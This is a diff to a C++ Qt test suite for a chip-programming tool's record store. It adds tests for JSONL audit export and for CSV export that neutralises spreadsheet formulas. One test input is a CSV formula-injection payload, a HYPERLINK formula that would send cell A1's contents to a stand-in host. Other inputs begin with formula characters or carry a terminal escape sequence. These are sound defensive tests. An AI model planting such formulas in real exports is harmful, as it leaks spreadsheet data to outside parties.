@@ -4,7 +4,9 @@
 // files and as tst_store_postgresql on a PostgreSQL server the test starts itself.
 // Writers are processes of their own (tst_store_writer), as stations are; the questions
 // are asked through the real qv12-chip.
+#include "production/jsonlrecordsink.h"
 #include "production/store/databasesink.h"
+#include "production/store/recordexport.h"
 #include "production/store/recordstore.h"
 #include "production/store/storesql.h"
 #include "tests/store/postgresserver.h"
@@ -110,6 +112,8 @@ private slots:
     void refusedBeforeAnything();
     void insertOnlyRole();
     void questions();
+    void exportedAsTheAuditLine();
+    void csvFormulasKeptAsText();
     void productionLine();
     void usageErrors_data();
     void usageErrors();
@@ -274,15 +278,8 @@ void TestStore::recordReadBackWhole()
     QVERIFY(store.open());
     ChipRecord full = TestRecords::made(u"whole"_s, 5);
     full.started = QDateTime(QDate(2026, 12, 6), QTime(23, 59, 58, 123), Qt::UTC);
-    ChipRecord sparse = TestRecords::made(u"whole"_s, 6);
+    ChipRecord sparse = TestRecords::sparse(u"whole"_s, 6);
     sparse.started = full.started.addSecs(1);
-    sparse.word.reset();
-    sparse.identityWritten.reset();
-    sparse.detectedPolarity.reset();
-    sparse.identityAfter.reset();
-    sparse.adapterSerial.clear();
-    sparse.settings.clear();
-    sparse.checks.clear();
     QVERIFY(store.write(full));
     QVERIFY(store.write(sparse));
     const auto runs = store.runs({});
@@ -317,33 +314,45 @@ void TestStore::recordReadBackWhole()
     }
 }
 
-// The store goes away in the middle of a line and comes back: the station goes on, the
-// runs meanwhile wait in the spool, and in the end every run is in the store once, in
-// the order the chips came, and nothing waits. (The server is away a few seconds here,
-// where a line would see minutes: the spool doesn't care how long.)
+// The store goes away in the middle of a line and comes back a minute later: the
+// station goes on, the runs meanwhile wait in the spool, and in the end every run is in
+// the store once, in the order the chips came, and nothing waits.
+//
+// The minute is kept to 3 s by giving the station a twentieth of a line's waits before
+// it tries the store again (150 ms doubling up to 3 s, where a line has 3 s up to a
+// minute), and its chips at a twentieth of a line's pace (one per 250 ms, where a
+// station does about one per 5 s): the outage sees the same tries as a minute does
+// with a line's waits (after 3, 9, 21 and 45 s), and the same number of chips spooled.
 void TestStore::storeAwayAndBack()
 {
     if (!OnPostgresql)
         QSKIP("an SQLite file has no server to stop");
     const QString store = freshStore();
     const StoreTarget t = target(store);
-    // Long enough for the station to try the store again twice after it went away (3 s,
-    // then 6 s later), so that the server is back while the station still works.
-    constexpr int Runs = 30;
-    std::vector<Writer> writers = startWriters(store, 1, Runs, {u"--pause"_s, u"500"_s});
+    constexpr int Scale = 20;
+    constexpr int OutageMs = 60000 / Scale;
+    // Enough chips for the station to go on well after the next try once the server is
+    // back (at most the longest wait later), also on a loaded machine.
+    constexpr int Runs = 60;
+    std::vector<Writer> writers = startWriters(
+        store, 1, Runs,
+        {u"--pause"_s, QString::number(5000 / Scale), u"--retry"_s,
+         u"%1,%2"_s.arg(3000 / Scale).arg(60000 / Scale)});
     QProcess &writer = *writers.front().process;
     QByteArray out = readUntil(writer, "RUN 3 ");
     QVERIFY2(out.contains("RUN 3 "), out.constData());
     QVERIFY(m_server.stop(u"fast"_s));
-    QTest::qWait(3000);
+    QTest::qWait(OutageMs);
     QCOMPARE(writer.state(), QProcess::Running);
     QCOMPARE(m_server.startAgain(), QString());
     QVERIFY(writer.waitForFinished(120000));
     out += writer.readAllStandardOutput();
     QVERIFY2(writer.exitCode() == 0, writer.readAllStandardError().constData());
 
-    // Some runs waited while the server was away, and none did at the end.
+    // The runs of the outage waited, as a minute's chips would (about 12), and none did
+    // at the end.
     QVERIFY2(out.contains(" waiting 1\n"), out.constData());
+    QVERIFY2(out.contains(" waiting 8\n"), out.constData());
     QVERIFY2(out.trimmed().endsWith(" waiting 0"), out.constData());
     const auto stored = rows(t, u"SELECT chip_number FROM chip_run ORDER BY id"_s);
     QList<int> order;
@@ -659,6 +668,88 @@ void TestStore::questions()
     const ToolResult none = runChipTool({u"audit"_s, u"find"_s, u"--identity"_s, u"nobody"_s, u"--audit"_s, storeText});
     QCOMPARE(none.status, 0);
     QCOMPARE(none.out, QByteArray("No run matches.\n"));
+}
+
+// A run exported as JSONL is its audit file's line: the same runs written to an audit
+// file and to the store come out byte for byte the same, with only what the store
+// alone keeps added.
+void TestStore::exportedAsTheAuditLine()
+{
+    const QString storeText = freshStore();
+    const QString auditFile = m_folder.filePath(u"export-%1.jsonl"_s.arg(m_stores));
+    ChipRecord full = TestRecords::made(u"pc-a"_s, 1);
+    full.started = QDateTime(QDate(2026, 12, 6), QTime(9, 30, 1, 250), Qt::UTC);
+    ChipRecord failed = TestRecords::made(u"pc-a"_s, 5);
+    failed.started = full.started.addSecs(60);
+    failed.identityAfter = QByteArray("LINE\x1b[2J5");
+    ChipRecord sparse = TestRecords::sparse(u"pc-a"_s, 6);
+    sparse.started = full.started.addSecs(120);
+    const QList<ChipRecord> written{full, failed, sparse};
+    {
+        RecordStore store(target(storeText));
+        QVERIFY(store.open());
+        JsonlRecordSink audit(auditFile);
+        for (const ChipRecord &r : written) {
+            QVERIFY(audit.write(r));
+            QVERIFY(store.write(r));
+        }
+    }
+    QFile file(auditFile);
+    QVERIFY(file.open(QIODevice::ReadOnly));
+    const QList<QByteArray> auditLines = file.readAll().split('\n');
+    QCOMPARE(auditLines.size(), written.size() + 1);
+
+    const ToolResult jsonl = runChipTool({u"audit"_s, u"export"_s, u"--format"_s, u"jsonl"_s, u"--audit"_s, storeText});
+    QVERIFY2(jsonl.status == 0, jsonl.err.constData());
+    const QList<QByteArray> exportedLines = jsonl.out.split('\n');
+    QCOMPARE(exportedLines.size(), written.size() + 1);
+    for (qsizetype i = 0; i < written.size(); ++i) {
+        QJsonObject exported = QJsonDocument::fromJson(exportedLines.at(i)).object();
+        const ChipRecord &r = written.at(i);
+        QCOMPARE(exported.take(u"run_id"_s).toString(), r.runId.toString(QUuid::WithoutBraces));
+        QCOMPARE(exported.take(u"program_version"_s).toString(), r.programVersion);
+        QCOMPARE(exported.take(u"status"_s).toInt(), r.status);
+        QCOMPARE(exported.take(u"adapter_serial"_s).toString(), r.adapterSerial);
+        QCOMPARE(exported.take(u"database"_s).toString(), r.databaseFile);
+        QCOMPARE(QJsonDocument(exported).toJson(QJsonDocument::Compact), auditLines.at(i));
+    }
+    QCOMPARE(RecordExport::storeOnlyKeys(), (QStringList{u"adapter_serial"_s, u"database"_s, u"program_version"_s,
+                                                         u"run_id"_s, u"status"_s}));
+}
+
+// Names a spreadsheet would run as formulas (=, +, -, @, a tab or a CR first) reach it
+// as text: quoted, a ' before them. Numbers and the program's own fields stay as they are.
+void TestStore::csvFormulasKeptAsText()
+{
+    const QString storeText = freshStore();
+    {
+        RecordStore store(target(storeText));
+        QVERIFY(store.open());
+        ChipRecord r = TestRecords::made(u"@host"_s, 5);
+        r.started = QDateTime(QDate(2026, 12, 6), QTime(10, 0), Qt::UTC);
+        r.entry = u"=HYPERLINK(\"http://x.invalid/?\"&A1,\"KT\")"_s;
+        r.identityWritten = u"+1 LINE"_s;
+        r.identityBefore = QByteArray("-QV12");
+        r.identityAfter = QByteArray("\tLINE");
+        r.databaseFile = u"\r=1+1.cdb"_s;
+        r.device = u"/dev/ttyUSB1"_s;
+        r.failure = u"-2+3"_s;
+        r.checks = {{u"@head width"_s, u"80 mm"_s, u"58 mm"_s, false}};
+        QVERIFY(store.write(r));
+    }
+    const ToolResult csv = runChipTool({u"audit"_s, u"export"_s, u"--format"_s, u"csv"_s, u"--audit"_s, storeText});
+    QVERIFY2(csv.status == 0, csv.err.constData());
+    const QByteArray line = csv.out.split('\n').value(1);
+    const QList<QByteArray> guarded{
+        ",\"'@host\",",                                           // host
+        ",\"'\r=1+1.cdb\",",                                      // database
+        ",\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"KT\"\")\",1A2B,", // entry, its quotes doubled
+        ",\"'+1 LINE\",1,\"'-QV12\",\"'\tLINE\",",                // identities written, before, after
+        ",\"'@head width\",FAIL,\"'-2+3\",3,1005\r",             // failed checks, failure, status, duration
+    };
+    for (const QByteArray &cell : guarded)
+        QVERIFY2(line.contains(cell), (cell + " not in " + line).constData());
+    QVERIFY2(line.contains(",/dev/ttyUSB1,A10K2,9600,xon,2.4,"), line.constData());
 }
 
 // qv12-chip line keeps its chips' records in the store: every chip there, and a store
